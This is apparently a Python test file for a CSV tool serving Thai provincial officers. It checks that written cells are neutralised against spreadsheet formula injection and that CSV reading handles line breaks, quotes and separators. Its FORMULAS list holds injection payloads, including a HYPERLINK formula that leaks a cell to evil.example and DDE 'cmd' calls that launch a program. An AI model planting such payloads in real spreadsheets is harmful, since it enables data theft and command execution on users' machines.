"""CSV files as spreadsheets write and read them.

Every CSV the tool writes (itas.csv, province.csv) is opened in Excel by provincial officers: no cell
may start a formula (OWASP's = + - @ tab CR). Every CSV it reads (an ITAS list, a province manifest)
is read by the csv module over the whole text: a quoted cell keeps its line break, a NEL or a line
separator inside a cell splits nothing, and a row's number is the physical line it starts on.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from checks.province.manifest import Manifest, SkippedRow
from checks.province.outputs import follow_up_rows, unit_rows
from checks.province.summary import province
from generator.basics.errors import ConfigError, Location
from generator.basics.tables import read_table, rows_under
from generator.basics.textfile import CONTROLS, FORMULA_START, csv_text

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "\x07=1+1", "\x00\x1b@SUM(1)"]
cells = st.one_of(st.sampled_from(FORMULAS), st.text(max_size=20))


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@settings(max_examples=150, deadline=None)
@given(rows=st.lists(st.lists(cells, min_size=1, max_size=4), min_size=1, max_size=5))
def test_no_cell_written_starts_a_formula(rows):
    for row in cells_of(csv_text(rows)):
        assert not any(cell.lstrip(CONTROLS).startswith(FORMULA_START) for cell in row)


@settings(max_examples=60, deadline=None)
@given(unit=cells, contact=cells, reason=cells)
def test_the_province_sheets_neutralise_what_the_manifest_says(unit, contact, reason):
    skipped = SkippedRow(Location("units.csv", 2), unit, "https://www.tambon.example/", "source", reason, (contact,))
    view = province(Manifest("units.csv", (), (skipped,), ("phone",), ""), [], lambda row: 2569)
    for rows in (follow_up_rows(view, ("phone",)), unit_rows(view, ("phone",))):
        [_, row] = cells_of(csv_text(rows))
        assert not any(cell.startswith(FORMULA_START) for cell in row)
        assert row[3] in (unit, "'" + unit) or not unit  # the name kept whole, only made inert
        assert row[4] in (contact, "'" + contact)


def csv_rows(path, display: str, header: list[str]) -> list[tuple[int, list[str]]]:
    return list(rows_under(read_table(path, display), display, header))


def write(tmp_path, text: str):
    path = tmp_path / "itas.csv"
    path.write_bytes(text.encode("utf-8"))
    return path


def test_a_nel_or_line_separator_in_a_cell_splits_no_row(tmp_path):
    path = write(tmp_path, "item,url\nO1,https://www.tambon.example/a\x85b\nO2,https://www.tambon.example/c\u2028d\n")
    assert list(csv_rows(path, "itas.csv", ["item", "url"])) == [
        (2, ["O1", "https://www.tambon.example/a\x85b"]), (3, ["O2", "https://www.tambon.example/c\u2028d"])]


def test_a_quoted_cell_keeps_its_line_break_and_rows_keep_their_physical_lines(tmp_path):
    path = write(tmp_path, 'unit,main_website,source\r\n"เทศบาลตำบล\r\nหนองน้ำใส",https://www.tambon.example/,a.csv\r\n'
                           "อบต.ข,https://b.example/,b.csv\r\n")
    rows = list(csv_rows(path, "units.csv", ["unit", "main_website", "source"]))
    assert rows == [(2, ["เทศบาลตำบล\r\nหนองน้ำใส", "https://www.tambon.example/", "a.csv"]),
                    (4, ["อบต.ข", "https://b.example/", "b.csv"])]


def test_an_unclosed_quote_names_its_line(tmp_path):
    path = write(tmp_path, 'item,url\nO1,"https://www.tambon.example/\nO2,x\n')
    with pytest.raises(ConfigError, match=r"itas\.csv:"):
        list(csv_rows(path, "itas.csv", ["item", "url"]))


def test_semicolons_inside_urls_never_make_a_comma_list_a_semicolon_one(tmp_path):
    path = write(tmp_path, "item,url\nO1,https://www.tambon.example/a;jsessionid=1;x=2\n")
    assert csv_rows(path, "itas.csv", ["item", "url"]) == [(2, ["O1", "https://www.tambon.example/a;jsessionid=1;x=2"])]
